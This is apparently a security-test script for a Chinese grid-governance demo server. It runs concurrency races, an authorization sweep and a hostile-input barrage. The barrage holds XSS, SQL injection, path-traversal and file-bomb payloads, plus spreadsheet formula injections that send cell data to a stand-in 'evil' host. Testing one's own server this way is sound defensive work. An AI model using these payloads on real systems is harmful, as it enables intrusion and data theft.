"""The attacker's-eye test of a running demo server: races, hostile payloads, a live
authorization sweep and the count of the authorization matrix test, with figures.

Run by scripts/attack-rerun.sh (`make attack`), which builds the demo town, starts the server
and passes its address; this script uses only the standard library (and openpyxl, already a
dependency, to read the exports). It reads and writes the demo's database only through the
API, the web pages and `manage.py shell` (tokens, invariants). Exit status 1 when a race broke
its invariant, a request answered 5xx, a payload came back unescaped or an export held a formula.
"""

from __future__ import annotations

import argparse
import collections
import concurrent.futures
import http.client
import http.cookiejar
import io
import json
import os
import re
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
import uuid
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
PASSWORD = (ROOT / "gridgov/demo/password.txt").read_text().strip()
ACCOUNTS = [
    "admin",
    "center01",
    "leader01",
    "super01",
    "dept01",
    "dept02",
    "gridlead01",
    "grid01",
    "grid02",
    "upstream01",
    "sysadmin01",
    "security01",
    "audit01",
]
PARALLEL = 20


# --- HTTP ---------------------------------------------------------------------------------


@dataclass
class Answer:
    status: int
    body: bytes
    headers: dict[str, str]

    def json(self) -> Any:
        try:
            return json.loads(self.body)
        except ValueError:
            return None

    @property
    def code(self) -> str:
        data = self.json()
        if isinstance(data, dict) and isinstance(data.get("error"), dict):
            return str(data["error"].get("code", ""))
        return ""


@dataclass
class Tally:
    requests: int = 0
    server_errors: list[str] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def add(self, status: int, what: str) -> None:
        with self.lock:
            self.requests += 1
            if status >= 500:
                self.server_errors.append(f"{status} {what}")


TALLY = Tally()


class Client:
    """One base address; each request opens its own connection (threads share nothing)."""

    def __init__(self, base: str, address: str = "10.0.0.1") -> None:
        parts = urllib.parse.urlsplit(base)
        self.host = parts.hostname or "127.0.0.1"
        self.port = parts.port or 80
        self.address = address
        self.cookies: dict[str, str] = {}

    def request(
        self,
        method: str,
        path: str,
        *,
        token: str | None = None,
        json_body: Any = None,
        raw: bytes | None = None,
        content_type: str | None = None,
        headers: dict[str, str] | None = None,
        address: str | None = None,
        timeout: float = 60,
    ) -> Answer:
        sent = {"X-Forwarded-For": address or self.address, "Accept-Language": "en"}
        if token:
            sent["Authorization"] = f"Bearer {token}"
        body = raw
        if json_body is not None:
            body = json.dumps(json_body).encode()
            content_type = "application/json"
        if content_type:
            sent["Content-Type"] = content_type
        if self.cookies:
            sent["Cookie"] = "; ".join(f"{k}={v}" for k, v in self.cookies.items())
            if method not in ("GET", "HEAD") and "csrftoken" in self.cookies:
                sent["X-CSRFToken"] = self.cookies["csrftoken"]
                sent["Referer"] = f"http://{self.host}:{self.port}/"
        sent.update(headers or {})
        connection = http.client.HTTPConnection(self.host, self.port, timeout=timeout)
        try:
            connection.request(method, path, body=body, headers=sent)
            response = connection.getresponse()
            data = response.read()
            status = response.status
            answer_headers = {k.lower(): v for k, v in response.getheaders()}
            for name, value in response.getheaders():
                if name.lower() == "set-cookie":
                    cookie = value.split(";", 1)[0]
                    key, _, val = cookie.partition("=")
                    self.cookies[key.strip()] = val.strip()
        except (OSError, http.client.HTTPException) as error:
            status, data, answer_headers = 599, str(error).encode(), {}
        finally:
            connection.close()
        TALLY.add(status, f"{method} {path[:80]}")
        return Answer(status, data, answer_headers)

    def web_login(self, username: str) -> bool:
        self.request("GET", "/login/")
        form = urllib.parse.urlencode(
            {"username": username, "password": PASSWORD, "csrfmiddlewaretoken": self.cookies.get("csrftoken", "")}
        ).encode()
        answer = self.request("POST", "/login/", raw=form, content_type="application/x-www-form-urlencoded")
        return answer.status == 302 and "sessionid" in self.cookies


def multipart(fields: dict[str, str], files: list[tuple[str, str, bytes, str]]) -> tuple[bytes, str]:
    boundary = "----attack" + uuid.uuid4().hex
    out = io.BytesIO()
    for name, value in fields.items():
        out.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode())
        out.write(value.encode("utf-8", "surrogatepass") + b"\r\n")
    for name, filename, content, ctype in files:
        head = f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; filename="{filename}"\r\n'
        out.write(head.encode("utf-8", "surrogatepass"))
        out.write(f"Content-Type: {ctype}\r\n\r\n".encode() + content + b"\r\n")
    out.write(f"--{boundary}--\r\n".encode())
    return out.getvalue(), f"multipart/form-data; boundary={boundary}"


def png(width: int = 24, height: int = 16, *, declared: tuple[int, int] | None = None) -> bytes:
    """A small valid PNG; with ``declared`` the header claims other dimensions (a pixel bomb)."""
    w, h = declared or (width, height)

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    raw = b"".join(b"\x00" + bytes([(x * 9 + y) % 256 for x in range(width) for _ in range(3)]) for y in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


# --- the demo's database through manage.py shell -------------------------------------------


def shell(code: str) -> str:
    done = subprocess.run(  # noqa: S603 - this interpreter and manage.py, with code written here
        [sys.executable, "manage.py", "shell", "-v", "0", "-c", code],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    if done.returncode:
        raise RuntimeError(done.stderr[-2000:])
    return done.stdout


def shell_json(code: str) -> Any:
    out = shell(code)
    line = [row for row in out.splitlines() if row.startswith("JSON ")][-1]
    return json.loads(line[5:])


def issue_tokens() -> dict[str, str]:
    return shell_json(
        f"""
import json
from django.contrib.auth import get_user_model
from gridgov.people.services import token_issue
tokens = {{}}
for name in {ACCOUNTS!r}:
    user = get_user_model().objects.get(username=name)
    tokens[name] = token_issue(actor=None, user=user, name="attack")[1]
print("JSON " + json.dumps(tokens))
"""
    )


# --- races --------------------------------------------------------------------------------


@dataclass
class RaceResult:
    name: str
    answers: list[Answer]
    held: bool
    note: str

    def histogram(self) -> str:
        counts = collections.Counter(f"{a.status}{'/' + a.code if a.code else ''}" for a in self.answers)
        return ", ".join(f"{k}×{v}" for k, v in sorted(counts.items()))


def together(calls: list[Callable[[], Answer]]) -> list[Answer]:
    """Run the calls in threads released at once by a barrier."""
    barrier = threading.Barrier(len(calls))

    def run(call: Callable[[], Answer]) -> Answer:
        barrier.wait()
        return call()

    with concurrent.futures.ThreadPoolExecutor(len(calls)) as pool:
        return list(pool.map(run, calls))


class Demo:
    def __init__(self, base: str) -> None:
        self.base = base
        self.api = Client(base, "10.0.1.1")
        self.tokens = issue_tokens()
        self.lat, self.lng, self.category = 38.6089, 117.2840, "environment.open_burning"

    def t(self, name: str) -> str:
        return self.tokens[name]

    def new_case(self, by: str = "grid01", **extra: Any) -> dict[str, Any]:
        body = {
            "category": self.category,
            "description": extra.pop("description", f"attack {uuid.uuid4().hex[:8]}"),
            "lat": self.lat,
            "lng": self.lng,
            **extra,
        }
        answer = self.api.request("POST", "/api/v1/cases", token=self.t(by), json_body=body)
        assert answer.status == 201, (answer.status, answer.body[:300])
        return answer.json()

    def detail(self, case_id: int, by: str = "center01") -> dict[str, Any]:
        return self.api.request("GET", f"/api/v1/cases/{case_id}", token=self.t(by)).json()

    def act(self, case_id: int, action: str, by: str, **body: Any) -> Answer:
        return self.api.request("POST", f"/api/v1/cases/{case_id}/actions/{action}", token=self.t(by), json_body=body)

    def act_photo(self, case_id: int, action: str, by: str, **body: Any) -> Answer:
        raw, ctype = multipart({"payload": json.dumps(body)}, [("photos", "p.png", png(), "image/png")])
        return self.api.request(
            "POST", f"/api/v1/cases/{case_id}/actions/{action}", token=self.t(by), raw=raw, content_type=ctype
        )

    def department_user(self) -> str:
        name = shell_json(
            f"""
import json
from gridgov.categories.models import Category
from gridgov.people.models import RoleAssignment
category = Category.objects.get(code={self.category!r})
row = RoleAssignment.objects.filter(department=category.default_department).select_related("user").first()
print("JSON " + json.dumps(row.user.username))
"""
        )
        if name not in self.tokens:
            self.tokens.update(
                shell_json(
                    f"""
import json
from django.contrib.auth import get_user_model
from gridgov.people.services import token_issue
user = get_user_model().objects.get(username={name!r})
print("JSON " + json.dumps({{user.username: token_issue(actor=None, user=user, name="attack")[1]}}))
"""
                )
            )
        return str(name)

    def awaiting_verification(self) -> dict[str, Any]:
        """A new case of grid01's grid taken through the loop up to its verification."""
        case = self.new_case()
        cid = case["id"]
        dept = self.department_user()
        steps: list[tuple[str, str, dict[str, Any]]] = [
            ("register", "center01", {}),
            ("dispatch", "center01", {}),
            ("acknowledge", dept, {}),
        ]
        for action, by, body in steps:
            answer = self.act(cid, action, by, **body)
            assert answer.status == 200, (action, answer.status, answer.body[:300])
        answer = self.act_photo(cid, "report_back", dept, result="done", comment="done")
        assert answer.status == 200, ("report_back", answer.status, answer.body[:300])
        return self.detail(cid)


def race_lockout(demo: Demo) -> RaceResult:
    limit = int(shell("from django.conf import settings; print(settings.LOGIN_FAILURE_LIMIT)").split()[-1])
    answers = together(
        [
            lambda: demo.api.request(
                "POST",
                "/api/v1/auth/token",
                json_body={"username": "dept02", "password": "wrong-password-123"},
                address="10.0.2.1",
            )
            for _ in range(PARALLEL)
        ]
    )
    checked = sum(1 for a in answers if a.status == 401)
    rows = int(
        shell(
            "from gridgov.core.models import AuditEvent; "
            "print(AuditEvent.objects.filter(action='auth.login_failed', data__username='dept02').count())"
        ).split()[-1]
    )
    held = checked <= limit and rows <= limit
    return RaceResult(
        "wrong passwords for one user", answers, held, f"{checked} checked, {rows} audit rows, limit {limit}"
    )


def race_idempotent_create(demo: Demo) -> RaceResult:
    key = str(uuid.uuid4())
    marker = f"idempotent {key[:8]}"
    body = {"category": demo.category, "description": marker, "lat": demo.lat, "lng": demo.lng}
    answers = together(
        [
            lambda: demo.api.request(
                "POST", "/api/v1/cases", token=demo.t("grid01"), json_body=body, headers={"Idempotency-Key": key}
            )
            for _ in range(PARALLEL)
        ]
    )
    count = int(
        shell(
            f"from gridgov.cases.models import Case; print(Case.objects.filter(description={marker!r}).count())"
        ).split()[-1]
    )
    ids = {a.json()["id"] for a in answers if a.status in (200, 201)}
    created = sum(1 for a in answers if a.status == 201)
    held = count == 1 and len(ids) == 1 and created == 1
    return RaceResult("case create, one Idempotency-Key", answers, held, f"{count} case(s), {created} answered 201")


def race_same_version(demo: Demo) -> RaceResult:
    case = demo.new_case()
    version = demo.detail(case["id"])["version"]
    answers = together([lambda: demo.act(case["id"], "register", "center01", version=version) for _ in range(PARALLEL)])
    history = demo.detail(case["id"])["history"]
    applied = sum(1 for event in history if event["action"] == "register")
    ok = sum(1 for a in answers if a.status == 200)
    held = applied == 1 and ok == 1 and all(a.status in (200, 409) for a in answers)
    return RaceResult("desk action, same version", answers, held, f"{ok} applied by answer, {applied} in the history")


def race_order_push(demo: Demo) -> RaceResult:
    number = f"ATTACK{uuid.uuid4().hex[:10].upper()}"
    body = {
        "source_system": "district",
        "upstream_number": number,
        "received_at": time.strftime("%Y-%m-%dT%H:%M:%S+08:00"),
        "order_type": "complaint",
        "content": "race push",
        "petitioner": {"name": "张三", "phone": "13812348888"},
    }
    answers = together(
        [
            lambda: demo.api.request("POST", "/api/v1/hotline/orders", token=demo.t("upstream01"), json_body=body)
            for _ in range(PARALLEL)
        ]
    )
    count = int(
        shell(
            "from gridgov.hotline.models import HotlineOrder; "
            f"print(HotlineOrder.objects.filter(upstream_number={number!r}).count())"
        ).split()[-1]
    )
    created = sum(1 for a in answers if a.status == 201)
    held = count == 1 and created == 1
    return RaceResult("hotline push, one upstream number", answers, held, f"{count} order(s), {created} answered 201")


def race_verification(demo: Demo) -> RaceResult:
    case = demo.awaiting_verification()
    answers = together(
        [lambda: demo.act_photo(case["id"], "verify_pass", "grid01", comment="ok") for _ in range(PARALLEL)]
    )
    history = demo.detail(case["id"])["history"]
    applied = sum(1 for event in history if event["action"] == "verify_pass")
    ok = sum(1 for a in answers if a.status == 200)
    held = applied == 1 and ok == 1
    return RaceResult("verification by the grid worker", answers, held, f"{ok} answered 200, {applied} in the history")


def race_remind(demo: Demo) -> RaceResult:
    case = demo.new_case()
    answers = together([lambda: demo.act(case["id"], "remind", "super01", comment="faster") for _ in range(PARALLEL)])
    reminders = demo.detail(case["id"])["counters"]["reminders"]
    ok = sum(1 for a in answers if a.status == 200)
    held = reminders == 1 and ok == 1
    return RaceResult("reminders of one case", answers, held, f"{ok} answered 200, counter {reminders}")


def race_reveal(demo: Demo) -> RaceResult:
    limit = int(shell("from django.conf import settings; print(settings.GRIDGOV_REVEALS_PER_HOUR)").split()[-1])
    case = demo.new_case(by="leader01", party={"kind": "resident", "name": "李四", "phone": "13812348888"})
    before = 0
    for _ in range(limit - 5):
        answer = demo.api.request("POST", f"/api/v1/cases/{case['id']}/reveal", token=demo.t("leader01"))
        before += answer.status == 200
    answers = together(
        [
            lambda: demo.api.request("POST", f"/api/v1/cases/{case['id']}/reveal", token=demo.t("leader01"))
            for _ in range(PARALLEL)
        ]
    )
    total = before + sum(1 for a in answers if a.status == 200)
    rows = int(
        shell(
            "from gridgov.core.models import AuditEvent; "
            "print(AuditEvent.objects.filter(action='case.reveal_party', actor__username='leader01').count())"
        ).split()[-1]
    )
    held = total <= limit and rows <= limit
    return RaceResult(
        "reveals near the hourly limit", answers, held, f"{total} revealed in all, {rows} audit rows, limit {limit}"
    )


def race_token_revocation(demo: Demo) -> RaceResult:
    user = "gridlead01"
    web = Client(demo.base, "10.0.8.1")
    assert web.web_login(user), "web login failed"
    web.request("GET", "/account/password/")
    new_password = "Changed-" + uuid.uuid4().hex[:12]

    def change() -> Answer:
        form = urllib.parse.urlencode(
            {
                "old_password": PASSWORD,
                "new_password1": new_password,
                "new_password2": new_password,
                "csrfmiddlewaretoken": web.cookies.get("csrftoken", ""),
            }
        ).encode()
        return web.request("POST", "/account/password/", raw=form, content_type="application/x-www-form-urlencoded")

    def token() -> Answer:
        return demo.api.request(
            "POST", "/api/v1/auth/token", json_body={"username": user, "password": PASSWORD}, address="10.0.8.2"
        )

    answers = together([change] + [token for _ in range(PARALLEL)])
    changed = answers[0].status == 302
    survivors = 0
    for answer in answers[1:]:
        if answer.status == 201:
            me = demo.api.request("GET", "/api/v1/me", token=answer.json()["token"])
            survivors += me.status == 200
    held = changed and survivors == 0
    issued = sum(a.status == 201 for a in answers[1:])
    return RaceResult(
        "tokens with the password while it changes",
        answers[1:],
        held,
        f"password changed: {changed}; tokens issued {issued}, alive after: {survivors}",
    )


def race_photo_idempotent(demo: Demo) -> RaceResult:
    case = demo.new_case()
    key = str(uuid.uuid4())
    raw, ctype = multipart({"kind": "other", "comment": "same"}, [("photos", "a.png", png(30, 20), "image/png")])
    answers = together(
        [
            lambda: demo.api.request(
                "POST",
                f"/api/v1/cases/{case['id']}/attachments",
                token=demo.t("grid01"),
                raw=raw,
                content_type=ctype,
                headers={"Idempotency-Key": key},
            )
            for _ in range(PARALLEL)
        ]
    )
    photos = len(demo.detail(case["id"])["attachments"])
    held = photos == 1 and all(a.status in (200, 201) for a in answers)
    return RaceResult("photo upload, one Idempotency-Key", answers, held, f"{photos} photo(s) stored")


def run_races(demo: Demo) -> list[RaceResult]:
    races = [
        race_lockout,
        race_idempotent_create,
        race_same_version,
        race_order_push,
        race_verification,
        race_remind,
        race_reveal,
        race_photo_idempotent,
        race_token_revocation,
    ]
    results = []
    for race in races:
        try:
            result = race(demo)
        except Exception as error:
            result = RaceResult(race.__name__, [], False, f"could not run: {error!r}"[:300])
        results.append(result)
        print(
            f"  race {len(results)}: {result.name}: {len(result.answers)} requests [{result.histogram()}] "
            f"invariant held: {'yes' if result.held else 'NO'} ({result.note})",
            flush=True,
        )
    return results


# --- hostile payloads -------------------------------------------------------------------------

XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "'><iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "{{7*7}}{% debug %}",
    "</textarea><script>alert(1)</script>",
    "<img src=1 onerror=\"fetch('//evil')\">",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]
SQL = [
    "' OR '1'='1",
    "'; DROP TABLE cases_case; --",
    '" OR 1=1 --',
    "1) UNION SELECT username, password FROM auth_user --",
    "%' AND 1=0 UNION SELECT sql FROM sqlite_master --",
    "' AND (SELECT COUNT(*) FROM auth_user) > 0 --",
    "1; SELECT pg_sleep(5)",
    "' || (SELECT sqlite_version()) || '",
    "\\' OR 1=1 #",
    "admin'--",
    "%%%%",
    "_",
]
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil","x")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil/?",A1),"//a")',
    "＝1+1",
]
WEIRD = [
    "abc\x00def",
    "line\x1bescape",
    "bell\x07",
    "del\x7f",
    "\ud800lone",
    "\udfffend",
    "\u202eRTL override gpj.exe",
    "\u200b\u200c\u200d\ufeff",
    "𝕳𝖊𝖑𝖑𝖔 🚒🔥",
    "a" * 1_000_000,
    "\u0000" * 5,
    "中" * 100_000,
]


@dataclass
class PayloadRun:
    sent: int = 0
    statuses: collections.Counter[int] = field(default_factory=collections.Counter)
    unescaped: list[str] = field(default_factory=list)
    formulas: list[str] = field(default_factory=list)
    xss_cases: list[tuple[int, str]] = field(default_factory=list)
    xss_orders: list[tuple[int, str]] = field(default_factory=list)

    def record(self, answer: Answer) -> Answer:
        self.sent += 1
        self.statuses[answer.status] += 1
        return answer


def deep(levels: int) -> str:
    return "[" * levels + "]" * levels


def hostile_payloads(demo: Demo) -> PayloadRun:
    """Every kind of hostile input against case create, the list filters, photo uploads, the
    hotline push and the login; then the pages and the exports checked for what was stored."""
    run = PayloadRun()
    api = Client(demo.base, "10.0.3.1")
    _case_payloads(demo, run, api)
    _filter_payloads(demo, run, api)
    _photo_payloads(demo, run, api)
    _hotline_payloads(demo, run, api)
    _login_payloads(run, api)
    _check_outputs(demo, run)
    return run


def _case_payloads(demo: Demo, run: PayloadRun, api: Client) -> None:
    grid, center = demo.t("grid01"), demo.t("center01")
    tag = uuid.uuid4().hex[:6]
    base_case = {"category": demo.category, "lat": demo.lat, "lng": demo.lng}

    def create(body: Any, token: str = center, raw: bytes | None = None) -> Answer:
        if raw is not None:
            return run.record(
                api.request("POST", "/api/v1/cases", token=token, raw=raw, content_type="application/json")
            )
        return run.record(api.request("POST", "/api/v1/cases", token=token, json_body=body))

    # Case create: XSS in every text field, kept to check the pages.
    for index, text in enumerate(XSS):
        for fieldname in ("description", "address"):
            answer = create(
                {
                    **base_case,
                    "description": f"xss {tag} {index}",
                    fieldname: text,
                    "party": {"kind": "resident", "name": text[:100], "phone": ""},
                }
            )
            if answer.status == 201:
                run.xss_cases.append((answer.json()["id"], text))
    # Case create: formulas, to check the export.
    for text in FORMULAS:
        answer = create({**base_case, "description": text, "address": text})
        if answer.status == 201:
            run.xss_cases.append((answer.json()["id"], text))
    # Case create: control characters, surrogates, RTL, huge strings.
    for text in WEIRD:
        create({**base_case, "description": text})
    raw_surrogate = (
        b'{"category": "' + demo.category.encode() + b'", "description": "x\\ud800y", "lat": 38.6, "lng": 117.28}'
    )
    create(None, raw=raw_surrogate)
    # Wrong types, huge numbers, bad coordinates.
    wrong = [
        {**base_case, "description": 123},
        {**base_case, "description": ["a"]},
        {**base_case, "description": None},
        {**base_case, "description": {"$gt": ""}},
        {**base_case, "description": "x", "lat": "north"},
        {**base_case, "description": "x", "lat": 10**400},
        {**base_case, "description": "x", "lat": -91, "lng": 117},
        {**base_case, "description": "x", "lat": 38.6, "lng": 181},
        {**base_case, "description": "x", "lat": -38.6, "lng": -117.28},
        {**base_case, "description": "x", "lat": 0, "lng": 0},
        {**base_case, "description": "x", "self_handle": "yes"},
        {**base_case, "description": "x", "party": "张三"},
        {**base_case, "description": "x", "party": {"kind": "resident", "name": "a" * 101, "phone": "1" * 31}},
        {**base_case, "description": "x", "photo_kinds": ["../../etc/passwd"]},
        {**base_case, "description": "x", "occurred_at": "9999-12-31T23:59:59+14:00"},
        {**base_case, "description": "x", "occurred_at": "0001-01-01T00:00:00"},
        {**base_case, "description": "x", "category": "../../etc"},
        {**base_case, "description": "x", "grid": "' OR 1=1 --"},
        {**base_case, "description": "x", "urgency": "<script>"},
        {**base_case, "description": "x", "source": "center"},
        [base_case],
        "just a string",
    ]
    for body in wrong:
        create(body, token=grid)
    for raw in (
        b"NaN",
        b'{"category": "x", "description": "x", "lat": NaN, "lng": Infinity}',
        b'{"category": "x", "description": "x", "lat": 1e999, "lng": -1e999}',
        deep(100).encode(),
        deep(100_000).encode(),
        b'{"a":' * 70 + b"1" + b"}" * 70,
        b"\xff\xfe\x00garbage",
        b"",
    ):
        create(None, token=grid, raw=raw)


def _filter_payloads(demo: Demo, run: PayloadRun, api: Client) -> None:
    center = demo.t("center01")
    # Case list filters: SQL injection and odd values in every filter.
    for text in SQL:
        for name in ("q", "category", "grid", "status", "department", "source", "light", "queue", "urgency", "cursor"):
            query = urllib.parse.urlencode({name: text})
            run.record(api.request("GET", f"/api/v1/cases?{query}", token=center))
    for name, value in (
        ("date_from", "0001-01-01"),
        ("date_to", "9999-12-31"),
        ("date_from", "2026-02-30"),
        ("limit", "0"),
        ("limit", "-1"),
        ("limit", str(10**30)),
        ("limit", "NaN"),
        ("q", "a" * 100_000),
        ("q", "\x00"),
        ("q", "\ud800"),
        ("cursor", "!!!"),
        ("cursor", "A" * 5000),
    ):
        query = urllib.parse.urlencode({name: value}, encoding="utf-8", errors="surrogatepass")
        run.record(api.request("GET", f"/api/v1/cases?{query}", token=center))
        run.record(api.request("GET", f"/api/v1/cases/map?{query}", token=center))
    for text in SQL[:6]:
        run.record(api.request("GET", "/api/v1/hotline/orders?" + urllib.parse.urlencode({"q": text}), token=center))


def _photo_payloads(demo: Demo, run: PayloadRun, api: Client) -> None:
    grid = demo.t("grid01")
    # Photo uploads: wrong contents, bombs, hostile file names.
    photo_case = demo.new_case(by="grid01")["id"]
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
    html = b"<html><script>alert(document.cookie)</script></html>"
    polyglot = png() + b"<script>alert(1)</script>"
    gifar = b"GIF89a" + b"\x00" * 20 + b"PK\x03\x04" + b"\x00" * 40
    zipbomb_ish = b"PK\x03\x04" + zlib.compress(b"\x00" * 5_000_000)
    uploads = [
        ("x.svg", svg, "image/svg+xml"),
        ("x.png", svg, "image/png"),
        ("x.html", html, "text/html"),
        ("x.jpg", html, "image/jpeg"),
        ("poly.png", polyglot, "image/png"),
        ("gifar.gif", gifar, "image/gif"),
        ("bomb.zip", zipbomb_ish, "application/zip"),
        ("bomb.png", png(declared=(60000, 60000)), "image/png"),
        ("bomb2.png", png(declared=(100000, 1)), "image/png"),
        ("truncated.png", png()[:40], "image/png"),
        ("empty.png", b"", "image/png"),
        ("../../../../etc/passwd", png(), "image/png"),
        ("..\\..\\windows\\win.ini", png(), "image/png"),
        ("a\x00.png.php", png(), "image/png"),
        ("\u202egpj.exe", png(), "image/png"),
        ("<script>.png", png(), "image/png"),
        ("a" * 1000 + ".png", png(), "image/png"),
        ("ok.png", png(), "text/html"),
    ]
    for filename, content, ctype in uploads:
        raw, mtype = multipart({"kind": "other", "comment": ""}, [("photos", filename, content, ctype)])
        run.record(
            api.request("POST", f"/api/v1/cases/{photo_case}/attachments", token=grid, raw=raw, content_type=mtype)
        )
    for kind in ("../../x", "<script>", "a" * 1000):
        raw, mtype = multipart({"kind": kind, "comment": "x"}, [("photos", "k.png", png(), "image/png")])
        run.record(
            api.request("POST", f"/api/v1/cases/{photo_case}/attachments", token=grid, raw=raw, content_type=mtype)
        )
    raw, mtype = multipart(
        {"kind": "other"}, [("photos", f"m{i}.png", png(20 + i, 10), "image/png") for i in range(12)]
    )
    run.record(api.request("POST", f"/api/v1/cases/{photo_case}/attachments", token=grid, raw=raw, content_type=mtype))


def _hotline_payloads(demo: Demo, run: PayloadRun, api: Client) -> None:
    upstream = demo.t("upstream01")

    # Hotline pushes by the upstream account.
    def push(**extra: Any) -> Answer:
        body = {
            "source_system": "district",
            "upstream_number": f"HOSTILE{uuid.uuid4().hex[:10]}",
            "received_at": time.strftime("%Y-%m-%dT%H:%M:%S+08:00"),
            "order_type": "complaint",
            "content": "hostile",
            **extra,
        }
        return run.record(api.request("POST", "/api/v1/hotline/orders", token=upstream, json_body=body))

    for text in XSS[:6] + FORMULAS[:4]:
        answer = push(content=text, title=text, address=text, petitioner={"name": text[:50], "phone": "13812348888"})
        if answer.status in (200, 201):
            run.xss_orders.append((answer.json()["id"], text))
    for extra in (
        {"content": "a" * 1_000_000},
        {"content": "x\x00y"},
        {"upstream_number": "../../etc/passwd"},
        {"upstream_number": "' OR 1=1 --"},
        {"received_at": "0001-01-01T00:00:00+08:00"},
        {"received_at": "not a date"},
        {"order_type": "<script>"},
        {"urgency_class": 10**30},
        {"town_code": "' OR 1=1 --"},
        {"attachments": [{"name": "../../../etc/passwd", "content_base64": "aGVsbG8="}]},
        {
            "attachments": [
                {
                    "name": "x.html",
                    "content_base64": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                    "content_type": "text/html",
                }
            ]
        },
        {"attachments": [{"name": "x.png", "content_base64": "!!!not base64!!!"}]},
    ):
        push(**extra)


def _login_payloads(run: PayloadRun, api: Client) -> None:
    # Login: each payload from its own address, so the per-address lock stays out of the way.
    logins = [
        {"username": "' OR '1'='1", "password": "' OR '1'='1"},
        {"username": "admin'--", "password": "x"},
        {"username": "center01", "password": "a" * 1_000_000},
        {"username": "a" * 100_000, "password": "x"},
        {"username": "center01\x00", "password": "x"},
        {"username": ["center01"], "password": "x"},
        {"username": {"$ne": None}, "password": {"$ne": None}},
        {"username": "center01", "password": None},
        {"username": "center01", "password": PASSWORD, "otp": "' OR 1=1"},
        {"username": "center01", "password": PASSWORD, "name": "<script>alert(1)</script>" * 10},
        {"username": "\u202ecenter01", "password": "x"},
        {},
    ]
    for index, body in enumerate(logins):
        run.record(api.request("POST", "/api/v1/auth/token", json_body=body, address=f"10.0.4.{index + 1}"))


def _check_outputs(demo: Demo, run: PayloadRun) -> None:
    # Pages: every stored XSS payload must come back escaped.
    web = Client(demo.base, "10.0.5.1")
    assert web.web_login("center01"), "web login of center01 failed"
    for case_id, text in run.xss_cases:
        page = web.request("GET", f"/cases/{case_id}/")
        if text in page.body.decode("utf-8", "replace") and ("<" in text or '"' in text):
            run.unescaped.append(f"case {case_id}: {text}")
    for order_id, text in run.xss_orders:
        page = web.request("GET", f"/hotline/orders/{order_id}/")
        if text in page.body.decode("utf-8", "replace") and ("<" in text or '"' in text):
            run.unescaped.append(f"order {order_id}: {text}")
    # Exports: no cell may be a formula.
    for path in ("/cases/export.xlsx", "/hotline/export.xlsx"):
        answer = web.request("GET", path)
        run.formulas.extend(formulas_in(answer.body, path) if answer.status == 200 else [f"{path}: {answer.status}"])


NEUTRALISED = collections.Counter[str]()


def formulas_in(content: bytes, label: str) -> list[str]:
    """Cells a spreadsheet would run: formulas, or text starting with = + - @ tab CR. Text the
    writer neutralised (a leading apostrophe) is counted in NEUTRALISED."""
    import openpyxl

    found = []
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f":
                    found.append(f"{label} {sheet.title}!{cell.coordinate}: {str(value)[:40]}")
                elif isinstance(value, str) and value[:2] in {"'" + c for c in "=+-@\t\r"}:
                    NEUTRALISED[label] += 1
                elif isinstance(value, str) and len(value) > 1 and value[0] in "=+-@\t\r":
                    found.append(f"{label} {sheet.title}!{cell.coordinate}: {value[:40]}")
    return found


# --- authorization ------------------------------------------------------------------------------


def live_authorization(demo: Demo) -> tuple[int, list[str]]:
    """Every account asks for every case, order and photo: 200 exactly where its scope says."""
    truth = shell_json(
        f"""
import json
from django.contrib.auth import get_user_model
from gridgov.cases.selectors import cases_visible
from gridgov.hotline.selectors import orders_visible
from gridgov.cases.models import Case, CaseAttachment
from gridgov.hotline.models import HotlineOrder as Order
out = {{"cases": list(Case.objects.values_list("pk", flat=True)),
       "orders": list(Order.objects.values_list("pk", flat=True)),
       "photos": list(CaseAttachment.objects.values_list("pk", "case_id")), "visible": {{}}}}
for name in {ACCOUNTS!r}:
    user = get_user_model().objects.get(username=name)
    out["visible"][name] = {{"cases": list(cases_visible(user).values_list("pk", flat=True)),
                            "orders": list(orders_visible(user).values_list("pk", flat=True))}}
print("JSON " + json.dumps(out))
"""
    )
    api = Client(demo.base, "10.0.6.1")
    jobs: list[tuple[str, str, bool]] = []
    for name in ACCOUNTS:
        cases = set(truth["visible"][name]["cases"])
        orders = set(truth["visible"][name]["orders"])
        jobs += [(name, f"/api/v1/cases/{pk}", pk in cases) for pk in truth["cases"]]
        jobs += [(name, f"/api/v1/hotline/orders/{pk}", pk in orders) for pk in truth["orders"]]
        jobs += [(name, f"/api/v1/cases/attachments/{pk}/thumbnail", case in cases) for pk, case in truth["photos"]]

    def check(job: tuple[str, str, bool]) -> str | None:
        name, path, visible = job
        status = api.request("GET", path, token=demo.t(name)).status
        if (visible and status != 200) or (not visible and status != 404):
            return f"{name} GET {path}: {status} (visible: {visible})"
        return None

    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        wrong = [w for w in pool.map(check, jobs) if w]
    return len(jobs), wrong


def matrix_count() -> tuple[int, bool]:
